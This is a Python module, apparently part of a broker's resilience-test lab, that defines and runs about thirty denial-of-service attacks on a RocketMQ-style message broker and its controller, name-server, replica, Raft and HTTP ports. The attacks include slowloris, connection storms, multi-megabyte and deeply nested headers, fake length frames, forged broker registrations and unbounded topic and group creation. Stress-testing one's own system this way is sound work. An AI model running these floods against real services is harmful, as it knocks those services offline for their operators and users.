"""Attacks of a stranger who can reach a port: as data, and who carries them out.

An attack is a number of connections and, for each, a series of pieces of bytes. Its process writes
them as fast as they are taken, reads answers or leaves them unread, and connects again where it is
cut. Connections, memory, and how often it connects are bounded; it ends when its time is over.

``python -m gantry_lab.measure.attack NAME HOST:PORT TOPIC SECONDS`` prints what it did as JSON.
"""

from __future__ import annotations

import json
import os
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from itertools import count, repeat
from typing import NamedTuple

from gantry_broker.clients.plain_sends import MAX_BATCH_MESSAGES
from gantry_protocol.codes import RequestCode
from gantry_protocol.command import SerializeType, request
from gantry_protocol.frame import encode
from gantry_protocol.records.batch import BatchMessage, encode_batch

CONNECTS_PER_S = 200  # of an attack that does not consist in connecting
CHUNK_BYTES = 1 << 18
PORTS = ("clients", "ha", "http", "control", "names", "raft", "admin")
"""The master: clients, replicas, probes; the controller: brokers, clients, peers, people."""
_MB = 1_000_000


class Attack(NamedTuple):
    """See the module.

    Attributes:
        what: it does.
        pieces: of one connection, given its number and the topic; at their end it connects again.
        connections: at a time.
        reads: whether answers are taken.
        pause_s: after each piece.
        storms: whether it connects again without a bound.
        port: whom it is for, see ``PORTS``.
    """

    what: str
    pieces: Callable[[int, str], Iterator[bytes]]
    connections: int
    reads: bool = True
    pause_s: float = 0.0
    storms: bool = False
    port: str = "clients"


def _frame(header: bytes, body: bytes = b"", kind: int = 0) -> bytes:
    return struct.pack(">iI", 4 + len(header) + len(body), kind << 24 | len(header)) + header + body


def _many_fields(size: int) -> bytes:
    fields = ",".join(f'"{number:07d}":""' for number in range(size // 13))
    return f'{{"code":10,"opaque":1,"extFields":{{{fields}}}}}'.encode()


def _many_pairs(size: int) -> bytes:
    pairs = b"".join(struct.pack(">h7si1s", 7, b"%07d" % n, 1, b"x") for n in range(size // 14))
    return struct.pack(">hbhiii", 10, 0, 0, 1, 0, 0) + struct.pack(">i", len(pairs)) + pairs


def _same(frame: bytes) -> Callable[[int, str], Iterator[bytes]]:
    return lambda _, __: repeat(frame)


def _nested(_: int, __: str) -> Iterator[bytes]:
    deep = b"[" * 60_000
    header = b'{"code":34,"opaque":1,"extFields":' + deep + b"]" * 60_000 + b"}"
    yield _frame(header)
    body = b'{"clientID":"n","consumerDataSet":' + b"[" * 400_000 + b"]" * 400_000 + b"}"
    heartbeat = _frame(b'{"code":34,"opaque":1}', body)
    yield from repeat(heartbeat, 1000)


def _pull(topic: str, queue: int, offset: int, wait_ms: int, number: int) -> bytes:
    ext = {
        "consumerGroup": "strangers",
        "topic": topic,
        "queueId": str(queue),
        "queueOffset": str(offset),
        "maxMsgNums": "32",
        "sysFlag": "6" if wait_ms else "4",
        "commitOffset": "0",
        "suspendTimeoutMillis": str(wait_ms),
        "subscription": "*",
        "subVersion": "0",
    }
    command = request(RequestCode.PULL_MESSAGE, ext)
    command.opaque = number
    return encode(command)


def _pulls(number: int, topic: str) -> Iterator[bytes]:
    return repeat(b"".join(_pull(topic, number % 8, 0, 0, item) for item in range(1000)))


def _long_polls(number: int, topic: str) -> Iterator[bytes]:
    """As many as may wait on one connection, at a place that is not there yet."""
    one = _pull(f"{topic}-victim", number % 8, 1 << 40, 20_000, 7)
    at_end = b"".join(_pull(f"{topic}-victim", 0, end, 20_000, end) for end in range(4000))
    yield at_end
    yield from repeat(one * 100, 40)
    yield from repeat(b"", 1 << 30)


def _commits(number: int, topic: str) -> Iterator[bytes]:
    ext = {"topic": topic, "queueId": "0", "commitOffset": "1"}
    for first in count(0, 500):
        groups = (f"new-{os.getpid()}-{number}-{item}" for item in range(first, first + 500))
        yield b"".join(
            encode(request(RequestCode.UPDATE_CONSUMER_OFFSET, {**ext, "consumerGroup": name}))
            for name in groups
        )


def _subscriptions(number: int, _: str) -> Iterator[bytes]:
    one = '{"topic":"t%d","subString":"*","tagsSet":[],"codeSet":[],"subVersion":1}'
    wanted = ",".join(one % at for at in range(100_000))
    body = (
        f'{{"clientID":"s{number}","producerDataSet":[],"consumerDataSet":[{{"groupName":'
        f'"subs{number}","consumeType":"CONSUME_PASSIVELY","messageModel":"CLUSTERING",'
        f'"consumeFromWhere":"CONSUME_FROM_LAST_OFFSET","subscriptionDataSet":[{wanted}]}}]}}'
    )
    return repeat(encode(request(RequestCode.HEART_BEAT, {}, body.encode())))


def _members(number: int, _: str) -> Iterator[bytes]:
    for first in count(0, 100):
        names = (f"m-{os.getpid()}-{number}-{item}" for item in range(first, first + 100))
        groups = ",".join(
            f'{{"groupName":"{name}","consumeType":"CONSUME_PASSIVELY","messageModel":"CLUSTERING",'
            '"consumeFromWhere":"CONSUME_FROM_LAST_OFFSET","subscriptionDataSet":[]}'
            for name in names
        )
        body = f'{{"clientID":"m{number}","producerDataSet":[],"consumerDataSet":[{groups}]}}'
        yield encode(request(RequestCode.HEART_BEAT, {}, body.encode()))


def _a_byte_a_second(_: int, topic: str) -> Iterator[bytes]:
    frame = _pull(topic, 0, 0, 0, 1)
    while True:
        yield from (frame[at : at + 1] for at in range(len(frame)))


def _garbage(number: int, _: str) -> Iterator[bytes]:
    return iter([random.Random(number).randbytes(4096)])


def _giant(_: int, __: str) -> Iterator[bytes]:
    yield struct.pack(">iI", 16 * 1024 * 1024 - 4, 20) + b'{"code":10,"flag":0}'
    yield from repeat(bytes(64 * 1024), 250)


def _topics(number: int, _: str) -> Iterator[bytes]:
    for at in count():
        ext = {
            "topic": f"storm-{os.getpid()}-{number}-{at}",
            "defaultTopic": "TBW102",
            "readQueueNums": "16",
            "writeQueueNums": "16",
            "perm": "6",
            "topicFilterType": "SINGLE_TAG",
            "topicSysFlag": "0",
            "order": "false",
        }
        yield encode(request(RequestCode.UPDATE_AND_CREATE_TOPIC, ext))


def _scans(number: int, topic: str) -> Iterator[bytes]:
    by_key = {"topic": topic, "key": f"k{number}", "maxNum": "64"}
    by_key |= {"beginTimestamp": "0", "endTimestamp": str(1 << 42)}
    by_time = {"topic": topic, "queueId": str(number % 8)}
    for at in count():
        times = (
            request(
                RequestCode.SEARCH_OFFSET_BY_TIMESTAMP, {**by_time, "timestamp": str(at * 100 + n)}
            )
            for n in range(100)
        )
        yield b"".join(map(encode, times))
        yield encode(request(RequestCode.QUERY_MESSAGE, by_key)) * 20


def _send_ext(topic: str, queue: int, *, batch: bool = False) -> dict[str, str]:
    ext = {"a": "strangers", "b": topic, "c": "TBW102", "d": "4", "e": str(queue), "f": "0"}
    return {**ext, "g": "1700000000000", "h": "0", "i": "", "m": str(batch).lower()}


def _batches(number: int, topic: str) -> Iterator[bytes]:
    body = encode_batch(repeat_message(MAX_BATCH_MESSAGES))
    ext = _send_ext(topic, number % 8, batch=True)
    return repeat(encode(request(RequestCode.SEND_BATCH_MESSAGE, ext, body)))


def repeat_message(times: int) -> Iterator[BatchMessage]:
    """So many small messages."""
    return repeat(BatchMessage(b"x" * 60, ""), times)


def _oneways(number: int, topic: str) -> Iterator[bytes]:
    ext = _send_ext(topic, number % 8)
    one = encode(request(RequestCode.SEND_MESSAGE_V2, ext, b"x" * 100, oneway=True))
    return repeat(one * 500)


def _binary(_: int, __: str) -> Iterator[bytes]:
    return repeat(_frame(_many_pairs(15 * _MB), kind=SerializeType.ROCKETMQ))


def _nothing(_: int, __: str) -> Iterator[bytes]:
    return iter([])


def _silent(_: int, __: str) -> Iterator[bytes]:
    return repeat(b"", 1 << 30)


def _questions(*codes: RequestCode) -> Callable[[int, str], Iterator[bytes]]:
    def pieces(number: int, topic: str) -> Iterator[bytes]:
        for at in count():
            ext = {"topic": f"{topic}-{number}-{at}", "group": "g", "consumerGroup": "g"}
            ext |= {"brokerName": "bench", "clusterName": "gantry"}
            yield b"".join(encode(request(code, ext)) for code in codes) * 50

    return pieces


def _reports(number: int, _: str) -> Iterator[bytes]:
    one = '"t%d":{"topicName":"t%d","readQueueNums":8,"writeQueueNums":8,"perm":6}'
    topics = ",".join(one % (at, at) for at in range(150_000))
    table = f'"topicConfigTable":{{{topics}}},"dataVersion":{{"counter":1,"timestamp":1}}'
    body = f'{{"topicConfigSerializeWrapper":{{{table}}},"filterServerList":[]}}'.encode()
    ext = {"brokerName": f"stranger-{number}", "brokerAddr": f"10.9.9.{number}:1", "brokerId": "0"}
    ext |= {"clusterName": "gantry", "haServerAddr": "10.9.9.9:2", "compressed": "false"}
    return repeat(encode(request(RequestCode.REGISTER_BROKER, ext, body)))


def _slow_http(_: int, __: str) -> Iterator[bytes]:
    yield b"GET /metrics HTTP/1.1\r\n"
    yield from repeat(b"X-A: b\r\n")


def _large_http(_: int, __: str) -> Iterator[bytes]:
    yield b"GET /metrics HTTP/1.1\r\n"
    yield from repeat(b"X-" + b"a" * 4000 + b": b\r\n")


def _scrapes(_: int, __: str) -> Iterator[bytes]:
    return repeat(b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n")


def _groups(_: int, __: str) -> Iterator[bytes]:
    return repeat(b"GET /v1/groups HTTP/1.1\r\nHost: a\r\n\r\n")


def _giant_greeting(_: int, __: str) -> Iterator[bytes]:
    yield b"GKEY\x01" + bytes(32)
    yield from repeat(struct.pack(">I", 0xFFFFFFF0) + bytes(4092))


_READS = (
    RequestCode.GET_BROKER_CLUSTER_INFO,
    RequestCode.GET_ALL_TOPIC_LIST_FROM_NAMESERVER,
    RequestCode.GET_ROUTEINFO_BY_TOPIC,
)

ATTACKS: dict[str, Attack] = {
    "huge-header": Attack(
        "JSON headers of 13.9 MB, on 8 connections", _same(_frame(_many_fields(13_900_000))), 8
    ),
    "many-headers": Attack(
        "JSON headers of 120 KB, one after the other, on 64 connections",
        _same(_frame(_many_fields(120_000))),
        64,
    ),
    "nested-json": Attack("JSON nested 60,000 and 400,000 deep", _nested, 16),
    "binary-fields": Attack("binary headers of a million fields", _binary, 8),
    "never-reading": Attack("60 consumers that never read", _pulls, 60, reads=False),
    "new-groups": Attack("commits of new consumer groups, without end", _commits, 8),
    "subscriptions": Attack("heartbeats with 100,000 subscriptions", _subscriptions, 8),
    "new-members": Attack("heartbeats of new consumer groups, without end", _members, 16),
    "slowloris": Attack("a byte a second on 2,000 connections", _a_byte_a_second, 2000, pause_s=1),
    "connect-storm": Attack("connections that end at once", _nothing, 64, storms=True),
    "garbage": Attack("4 KB of noise on each connection", _garbage, 64, storms=True),
    "giant-length": Attack("frames that claim 16 MiB and trickle", _giant, 200, pause_s=0.05),
    "pipelined-pulls": Attack(
        "pulls as fast as they are taken, none waited for", _pulls, 8, reads=False
    ),
    "long-polls": Attack("200,000 pulls that wait, 4,000 at the next message", _long_polls, 50),
    "topics": Attack("new topics without end", _topics, 16),
    "scans": Attack("queries by key and by time", _scans, 16),
    "big-batches": Attack("batches of as many small messages as one may hold", _batches, 8),
    "oneways": Attack("sends without answers", _oneways, 16),
    "control-reads": Attack(
        "questions to the controller as fast as they are taken",
        _questions(*_READS, RequestCode.GET_ALL_TOPIC_CONFIG),
        16,
        port="control",
    ),
    "names-reads": Attack(
        "questions to the name server as fast as they are taken",
        _questions(*_READS),
        16,
        port="names",
    ),
    "names-reports": Attack("brokers' reports of 12 MB", _reports, 8, port="names"),
    "control-headers": Attack(
        "headers of 120 KB", _same(_frame(_many_fields(120_000))), 64, port="control"
    ),
    "raft-garbage": Attack("noise at the peers' port", _garbage, 64, storms=True, port="raft"),
    "raft-silent": Attack("1,000 silent peers", _silent, 1000, port="raft"),
    "ha-garbage": Attack("noise at the replicas' port", _garbage, 64, storms=True, port="ha"),
    "ha-silent": Attack("2,000 silent replicas", _silent, 2000, port="ha"),
    "ha-giant": Attack("replicas that greet and send huge lengths", _giant_greeting, 64, port="ha"),
    "http-slow": Attack("a header line a second", _slow_http, 1000, pause_s=1, port="http"),
    "http-large": Attack("headers without end", _large_http, 64, port="http"),
    "http-scrapes": Attack("metrics without end", _scrapes, 32, port="http"),
    "admin-slow": Attack("the same at the controller", _slow_http, 1000, pause_s=1, port="admin"),
    "admin-lists": Attack("lists of groups without end", _groups, 32, port="admin"),
}


class _Conn:
    """One connection of an attack."""

    __slots__ = ("left", "number", "pieces", "rests_until", "socket", "wants_write")

    def __init__(self, number: int) -> None:
        self.number = number
        self.socket: socket.socket | None = None
        self.left = memoryview(b"")
        self.pieces: Iterator[bytes] = iter(())
        self.rests_until = 0.0
        self.wants_write = False


class Attacker:
    """Carries out one attack on one address, from its own address of the loopback network."""

    def __init__(self, attack: Attack, host: str, port: int, topic: str) -> None:
        self.done = dict.fromkeys(("opened", "cut", "bytes_out", "bytes_in"), 0)
        self._attack, self._to, self._topic = attack, (host, port), topic
        self._poll = select.epoll()
        self._by_number: dict[int, _Conn] = {}
        self._idle = [_Conn(number) for number in range(attack.connections)]
        self._idle_until = 0.0

    def run(self, seconds: float) -> None:
        """Go on for so long."""
        end = time.monotonic() + seconds
        while (now := time.monotonic()) < end:
            if self._idle and now >= self._idle_until:
                self._open(self._idle.pop(), now)
            for descriptor, events in self._poll.poll(0.0 if self._idle else 0.01, 512):
                conn = self._by_number.get(descriptor)
                if conn is not None:
                    self._turn(conn, events)
            if self._attack.pause_s:
                self._wake(now)

    def _open(self, conn: _Conn, now: float) -> None:
        if not self._attack.storms:
            self._idle_until = now + 1 / CONNECTS_PER_S
            if self._attack.connections > CONNECTS_PER_S and not self.done["cut"]:
                self._idle_until = now
        made = socket.socket()
        made.setblocking(False)
        made.connect_ex(self._to)
        conn.socket, conn.left = made, memoryview(b"")
        conn.pieces = self._attack.pieces(conn.number, self._topic)
        conn.rests_until, conn.wants_write = 0.0, True
        self.done["opened"] += 1
        self._by_number[made.fileno()] = conn
        self._poll.register(made.fileno(), self._events(conn))

    def _events(self, conn: _Conn) -> int:
        wanted = select.EPOLLIN if self._attack.reads else select.EPOLLRDHUP
        return wanted | (select.EPOLLOUT if conn.wants_write else 0)

    def _close(self, conn: _Conn) -> None:
        assert conn.socket is not None
        del self._by_number[conn.socket.fileno()]
        conn.socket.close()
        conn.socket = None
        self._idle.append(conn)

    def _turn(self, conn: _Conn, events: int) -> None:
        assert conn.socket is not None
        try:
            if events & select.EPOLLIN:
                got = conn.socket.recv(CHUNK_BYTES)
                self.done["bytes_in"] += len(got)
                if not got:
                    raise ConnectionResetError
            if events & (select.EPOLLERR | select.EPOLLHUP | select.EPOLLRDHUP):
                raise ConnectionResetError
            if events & select.EPOLLOUT:
                self._write(conn)
        except BlockingIOError:
            pass
        except OSError:
            self.done["cut"] += 1
            self._close(conn)
        except StopIteration:
            self._close(conn)

    def _write(self, conn: _Conn) -> None:
        assert conn.socket is not None
        if not conn.left:
            conn.left = memoryview(next(conn.pieces))
        if conn.left:
            sent = conn.socket.send(conn.left)
            self.done["bytes_out"] += sent
            conn.left = conn.left[sent:]
        if not conn.left and (self._attack.pause_s or sent_nothing(conn)):
            conn.rests_until = time.monotonic() + (self._attack.pause_s or 1.0)
            conn.wants_write = False
            self._poll.modify(conn.socket.fileno(), self._events(conn))

    def _wake(self, now: float) -> None:
        for conn in self._by_number.values():
            if not conn.wants_write and conn.rests_until <= now and conn.socket is not None:
                conn.wants_write = True
                self._poll.modify(conn.socket.fileno(), self._events(conn))


def sent_nothing(conn: _Conn) -> bool:
    """Whether the last piece was empty: it has said what it wants to say."""
    return conn.left.nbytes == 0 and conn.left.obj == b""


def main(name: str, address: str, topic: str, seconds: str) -> None:
    """See the module."""
    host, _, port = address.rpartition(":")
    attacker = Attacker(ATTACKS[name], host, int(port), topic)
    attacker.run(float(seconds))
    used = time.process_time() / float(seconds)
    print(json.dumps({**attacker.done, "cpu": round(used, 2)}))


if __name__ == "__main__":
    main(*sys.argv[1:])
